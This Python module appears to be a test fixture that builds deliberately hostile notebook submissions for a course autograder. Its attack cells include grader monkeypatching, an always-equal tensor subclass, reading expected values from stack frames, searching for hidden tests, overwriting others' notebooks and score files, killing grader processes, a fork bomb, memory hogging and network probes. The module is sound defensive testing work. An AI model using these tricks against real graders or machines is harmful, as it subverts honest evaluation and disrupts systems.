# ruff: noqa: E501 (the attacks are notebook cells written as strings)
"""Planted submissions for exercise 02-concepts that try to cheat, crash, exhaust resources
or interfere, each with the marks its real answers deserve (tests/test_grading_attacks.py).

Written as a determined student would. They are built from the solution notebook (answers
right) or the untouched exercise (answers missing), plus cells of their own. Where an attack
can do harm outside its own run (vandalise files, kill processes, fork, allocate memory) it
stays within bounds that cannot hurt the machine grading it even without a sandbox: it only
touches the submissions folder, scores files and the copy of coursekit it imported, kills only
processes that grade its own folder, and caps its children, memory and output.

What an attack managed to do is raised as an error in its last cell ("ATTACK: ...") so that
it shows in the notes of the CSV; the tests look for these words.
"""

import nbformat

POINTS = {"q1": 1, "q2": 2, "q3": 2, "q4": 1}
FULL = sum(POINTS.values())
ANSWER_CELLS = {"q1": 4, "q2": 7, "q3": 10, "q4": 13}  # in the exercise and the solution
FUNCTIONS = {"q1": "conv_output_size", "q2": "conv2d_loops", "q3": "conv2d_unfold",
             "q4": "max_pool2d"}


def _cell(source):
    return nbformat.v4.new_code_cell(source)


def _with_cells(notebook, cells, at=2):
    """A copy of ``notebook`` with code ``cells`` inserted at index ``at`` (after set-up)."""
    notebook = nbformat.from_dict(notebook)
    notebook.cells[at:at] = [_cell(source) for source in cells]
    return notebook


def _replace_answer(notebook, question, source):
    notebook = nbformat.from_dict(notebook)
    notebook.cells[ANSWER_CELLS[question]].source = source
    return notebook


# Finding the grader from inside: the command lines of our ancestors name the submission,
# the autograder and the result file (otter run / grade-one); the cwd is a hint too.
_FIND = r'''
import os, pathlib
def _ancestors():
    pid, seen = os.getpid(), []
    while pid > 1 and len(seen) < 12:
        try:
            stat = open(f"/proc/{pid}/stat").read()
            pid = int(stat.rsplit(")", 1)[1].split()[1])
            seen.append((pid, open(f"/proc/{pid}/cmdline").read().split("\0")))
        except OSError:
            break
    return seen
_ARGS = [arg for _, cmd in _ancestors() for arg in cmd]
_PATHS = [pathlib.Path(arg) for arg in _ARGS if arg.startswith("/") and pathlib.Path(arg).exists()]
_FOLDERS = {p.parent for p in _PATHS if p.suffix == ".ipynb"} | {pathlib.Path.cwd()}
'''

ATTACKS = {}


def attack(name, deserved):
    def register(build):
        ATTACKS[name] = (build, deserved)
        return build
    return register


@attack("right", POINTS)
def _right(solution, exercise):
    return solution


@attack("unanswered", {q: 0 for q in POINTS})
def _unanswered(solution, exercise):
    return exercise


@attack("patch-helpers", {q: 0 for q in POINTS})
def _patch_helpers(solution, exercise):
    """No answers; switch off every check the tests could make in this process."""
    return _with_cells(exercise, [r'''
import coursekit.grading as g, sys
for name in ("expect_result", "expect_tensor", "expect_equal", "_fail"):
    for module in [g] + [m for n, m in sys.modules.items() if n.startswith("coursekit.grading")]:
        if hasattr(module, name):
            setattr(module, name, lambda *a, **k: None)
for module in [g] + [m for n, m in sys.modules.items() if n.startswith("coursekit.grading")]:
    if hasattr(module, "call"):
        setattr(module, "call", lambda f, name, *a, **k: 0)
try:   # and otter's runner: every test case passes
    import otter.test_files.exception_test as et
    et.ExceptionTestFile.run = lambda self, env: [setattr(c, "passed", True) for c in []]
except Exception:
    pass
'''])


_LIAR = r'''
import torch
class Liar(torch.Tensor):
    """Equal to everything: isclose, allclose, equal and == all say yes."""
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        kwargs = kwargs or {}
        if func in (torch.isclose, torch.Tensor.__eq__, torch.eq):
            return torch.ones(torch.broadcast_shapes(args[0].shape, args[1].shape), dtype=torch.bool)
        if func in (torch.allclose, torch.equal):
            return True
        return super().__torch_function__(func, types, args, kwargs)
    def __eq__(self, other):
        return True
    __hash__ = torch.Tensor.__hash__
def _size(n, k, s, p):
    return (n + 2 * p - k) // s + 1
'''


@attack("equal-to-everything", {"q1": 1, "q2": 0, "q3": 0, "q4": 0})
def _equal_to_everything(solution, exercise):
    """q1 right; q2-q4 return zeros of the right shape that compare equal to anything."""
    notebook = _with_cells(solution, [_LIAR])
    conv = ("def {name}(x, weight, bias=None, stride=1, padding=0):\n"
            "    h = _size(x.shape[2], weight.shape[2], stride, padding)\n"
            "    w = _size(x.shape[3], weight.shape[3], stride, padding)\n"
            "    return torch.zeros(x.shape[0], weight.shape[0], h, w).as_subclass(Liar)\n")
    for question in ("q2", "q3"):
        notebook.cells[ANSWER_CELLS[question] + 1].source = conv.format(
            name=FUNCTIONS[question])
    notebook.cells[ANSWER_CELLS["q4"] + 1].source = (
        "def max_pool2d(x, kernel_size, stride=None):\n"
        "    s = stride or kernel_size\n"
        "    h, w = _size(x.shape[2], kernel_size, s, 0), _size(x.shape[3], kernel_size, s, 0)\n"
        "    return torch.zeros(*x.shape[:2], h, w).as_subclass(Liar)\n")
    return notebook


@attack("frame-peek", {"q1": 1, "q2": 0, "q3": 0, "q4": 0})
def _frame_peek(solution, exercise):
    """q1 right; q2-q4 return the expected value found in the caller's frames."""
    notebook = _with_cells(solution, [r'''
import sys
def _peek():
    frame = sys._getframe(2)
    while frame is not None:
        for key in ("expected", "reference", "expected64"):
            if key in frame.f_locals and frame.f_locals[key] is not None:
                return frame.f_locals[key]
        frame = frame.f_back
    return None
'''])
    for question in ("q2", "q3", "q4"):
        cell = notebook.cells[ANSWER_CELLS[question] + 1]
        signature = cell.source.split("\n", 1)[0]
        cell.source = f"{signature}\n    return _peek()\n"
    return notebook


@attack("read-hidden-tests", {q: 0 for q in POINTS})
def _read_hidden_tests(solution, exercise):
    """No answers; look for the hidden tests on every disk it can read and show them."""
    return _with_cells(exercise, [_FIND + r'''
import zipfile
found = []
roots = list(_FOLDERS) + [p.parent for p in _PATHS] + [pathlib.Path("/tmp"), pathlib.Path("/autograder"),
         pathlib.Path.home(), pathlib.Path("/work")]
def _look(path):
    try:
        if path.suffix == ".zip" and zipfile.is_zipfile(path):
            with zipfile.ZipFile(path) as z:
                for member in z.namelist():
                    if "test_random_against_torch" in z.read(member).decode(errors="ignore"):
                        found.append(f"{path}!{member}")
        elif path.suffix == ".py" and "test_random_against_torch" in path.read_text(errors="ignore"):
            found.append(str(path))
    except Exception:
        pass
for root in roots:
    try:
        for depth, path in enumerate(root.rglob("*")):
            if depth > 20000 or len(found) > 3:
                break
            if path.is_file() and path.suffix in (".zip", ".py") and "site-packages" not in str(path):
                _look(path)
    except Exception:
        pass
if found:
    raise RuntimeError("ATTACK: hidden tests read from " + ", ".join(found[:2]))
'''])


@attack("vandal", {q: 0 for q in POINTS})
def _vandal(solution, exercise):
    """No answers; blank the other notebooks, write a full-marks result for itself, mark
    the grader's source, and leave a process that rewrites any scores CSV it finds later."""
    return _with_cells(exercise, [_FIND + r'''
import json, os, subprocess, sys, time
done = []
empty = {"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
for folder in _FOLDERS:
    for other in folder.glob("*.ipynb"):
        if "vandal" not in other.name:
            try:
                other.write_text(json.dumps(empty)); done.append(f"blanked {other.name}")
            except OSError:
                pass
for i, arg in enumerate(_ARGS):
    if arg == "--result" and i + 1 < len(_ARGS):
        try:
            scores = {f"q{k}": 2 for k in range(1, 5)}
            pathlib.Path(_ARGS[i + 1]).write_text(json.dumps(
                {"scores": scores, "failures": {}, "unanswered": [], "errors": []}))
            done.append("wrote its own result")
        except OSError:
            pass
import coursekit
for source in pathlib.Path(coursekit.__file__).parent.rglob("grading*"):
    try:
        with open(source if source.is_file() else source / "__init__.py", "a") as f:
            f.write("")   # an empty append: proves the file is writable, changes nothing
        done.append(f"could write {source.name}"); break
    except OSError:
        pass
# a process that outlives this one and rewrites any scores CSV near the submissions
later = (
    "import pathlib, time, sys\n"
    "folders = [pathlib.Path(f) for f in sys.argv[1:]]\n"
    "for _ in range(40):\n"
    "    time.sleep(1)\n"
    "    for folder in folders:\n"
    "        for csv in list(folder.glob('*.csv')) + list(folder.parent.glob('*.csv')):\n"
    "            try:\n"
    "                lines = csv.read_text().splitlines()\n"
    "                if lines and 'vandal.ipynb,' in csv.read_text() and 'OWNED' not in lines[-1]:\n"
    "                    csv.write_text('\\n'.join(l if not l.startswith('vandal.ipynb,') else\n"
    "                        'vandal.ipynb,1,2,2,1,6,graded,OWNED' for l in lines) + '\\n')\n"
    "            except OSError:\n"
    "                pass\n")
try:
    subprocess.Popen([sys.executable, "-c", later, *map(str, _FOLDERS)], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    done.append("left a CSV rewriter")
except OSError:
    pass
raise RuntimeError("ATTACK: " + "; ".join(done or ["nothing"]))
'''])


@attack("killer", {q: 0 for q in POINTS})
def _killer(solution, exercise):
    """No answers; kill every process that grades a notebook of its folder, but itself."""
    return _with_cells(exercise, [_FIND + r'''
import signal
mine = {pid for pid, _ in _ancestors()} | {os.getpid()}
folders = [str(f) for f in _FOLDERS]
victims = []
for entry in pathlib.Path("/proc").iterdir():
    if not entry.name.isdigit() or int(entry.name) in mine:
        continue
    try:
        cmd = (entry / "cmdline").read_text().replace("\0", " ")
    except OSError:
        continue
    if "grade-one" in cmd and any(f in cmd for f in folders):
        victims.append(int(entry.name))
for entry in pathlib.Path("/proc").iterdir():  # and the kernels those started
    try:
        ppid = int((entry / "stat").read_text().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        continue
    if ppid in victims and int(entry.name) not in mine:
        victims.append(int(entry.name))
killed = []
for pid in victims:
    try:
        os.kill(pid, signal.SIGKILL); killed.append(pid)
    except OSError:
        pass
raise RuntimeError(f"ATTACK: killed {len(killed)} processes")
'''])


@attack("fork-bomb", POINTS)
def _fork_bomb(solution, exercise):
    """Answers right; then as many processes as it can start (capped at 1000, 20 s each)."""
    return _with_cells(solution, [r'''
import os, time
children = 0
for _ in range(1000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(20)
        os._exit(0)
    children += 1
raise RuntimeError(f"ATTACK: started {children} processes")
'''], at=len(solution.cells))


@attack("memory-hog", POINTS)
def _memory_hog(solution, exercise):
    """Answers right; then holds as much memory as it can get, up to 6 GiB."""
    return _with_cells(solution, [r'''
hog = []
try:
    for _ in range(24):
        hog.append(bytearray(256 * 2**20))   # written, so really held
except MemoryError:
    pass
got = len(hog) / 4
del hog
raise RuntimeError(f"ATTACK: held {got:g} GiB")
'''], at=len(solution.cells))


@attack("huge-output", POINTS)
def _huge_output(solution, exercise):
    """Answers right; prints 200 MB."""
    return _with_cells(solution, [r'''
import sys
line = "x" * 1023 + "\n"
for _ in range(200 * 1024):
    sys.stdout.write(line)
'''], at=3)


@attack("sleep-forever", POINTS)
def _sleep_forever(solution, exercise):
    """Answers right; one cell sleeps forever, ignoring interrupts."""
    return _with_cells(solution, [r'''
import signal, time
for sig in (signal.SIGINT, signal.SIGALRM, signal.SIGTERM):
    try:
        signal.signal(sig, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    try:
        time.sleep(1000)
    except BaseException:
        pass
'''], at=3)


@attack("detach", POINTS)
def _detach(solution, exercise):
    """Answers right; leaves a daemon (double fork, new session) running after it ends."""
    return _with_cells(solution, [r'''
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import sys
        sys.argv[0] = "coursekit-attack-daemon"
        for _ in range(120):
            time.sleep(1)
        os._exit(0)
    os._exit(0)
os.wait()
'''], at=3)


@attack("exit-in-answers", {"q1": 1, "q2": 0, "q3": 0, "q4": 1})
def _exit_in_answers(solution, exercise):
    """q2 calls sys.exit, q3 os._exit when tested; a top-level cell calls os._exit too."""
    notebook = _with_cells(solution, ["import os\nos._exit(3)"], at=len(solution.cells) - 1)
    for question, exit_call in (("q2", "import sys; sys.exit(0)"), ("q3", "import os; os._exit(0)")):
        cell = notebook.cells[ANSWER_CELLS[question]]
        cell.source = cell.source.replace("    # BEGIN SOLUTION\n",
                                          f"    # BEGIN SOLUTION\n    {exit_call}\n", 1)
    return notebook


@attack("network", POINTS)
def _network(solution, exercise):
    """Answers right; tries to reach the outside and this machine's own services."""
    return _with_cells(solution, [r'''
import socket
reached = []
for host, port in (("1.1.1.1", 53), ("pypi.org", 443), ("127.0.0.1", 22), ("127.0.0.1", 8888)):
    try:
        socket.create_connection((host, port), timeout=3).close(); reached.append(f"{host}:{port}")
    except OSError:
        pass
if reached:
    raise RuntimeError("ATTACK: reached " + ", ".join(reached))
'''], at=len(solution.cells))


@attack("copies-coursekit", {"q1": 0, "q2": 0, "q3": 0, "q4": 0})
def _copies_coursekit(solution, exercise):
    """Every answer calls coursekit's own implementation, imported under another name."""
    notebook = _with_cells(solution, [
        "from coursekit import conv as _mine\nfrom coursekit.conv import conv2d_unfold as _u"])
    for question, body in (
            ("q1", "    return _mine.conv_output_size(size, kernel_size, stride, padding)"),
            ("q2", "    return _mine.conv2d_loops(x, weight, bias, stride, padding)"),
            ("q3", "    return _u(x, weight, bias, stride, padding)"),
            ("q4", "    return _mine.max_pool2d_loops(x, kernel_size, stride)")):
        cell = notebook.cells[ANSWER_CELLS[question] + 1]
        cell.source = cell.source.split("\n", 1)[0] + "\n" + body + "\n"
    return notebook


@attack("incidental", POINTS)
def _incidental(solution, exercise):
    """Right answers with another kernel, no metadata, no tags, the answers reordered."""
    notebook = nbformat.from_dict(solution)
    notebook.metadata = {"kernelspec": {"name": "my-venv-kernel", "display_name": "mine",
                                        "language": "python"}}
    for cell in notebook.cells:
        cell.metadata = {}
        cell.pop("id", None)
    q4 = notebook.cells.pop(ANSWER_CELLS["q4"])   # max_pool2d defined before q1's answer
    notebook.cells.insert(ANSWER_CELLS["q1"], q4)
    notebook.nbformat_minor = 4
    return notebook


@attack("workers", POINTS)
def _workers(solution, exercise):
    """Right answers, q1's cell first reads a data set with DataLoader(num_workers=2) (worker
    processes, batches through /dev/shm): honest work that must keep its marks."""
    notebook = nbformat.from_dict(solution)
    cell = notebook.cells[ANSWER_CELLS["q1"]]
    cell.source = cell.source.replace("def conv_output_size", r'''import torch
from torch.utils.data import DataLoader, TensorDataset
_images = torch.randn(64, 3, 32, 32)
_seen = torch.cat([batch for (batch,) in DataLoader(TensorDataset(_images), batch_size=16,
                                                   num_workers=2)])
assert torch.equal(_seen, _images)

def conv_output_size''', 1)
    return notebook


def build_all(solution, exercise, folder, names=None):
    """Write every attack (or ``names``) as ``folder/<name>.ipynb``; returns
    {file name: deserved marks per question}."""
    folder.mkdir(parents=True, exist_ok=True)
    deserved = {}
    for name, (build, marks) in ATTACKS.items():
        if names is not None and name not in names:
            continue
        nbformat.write(build(nbformat.from_dict(solution), nbformat.from_dict(exercise)),
                       folder / f"{name}.ipynb")
        deserved[f"{name}.ipynb"] = dict(marks)
    return deserved
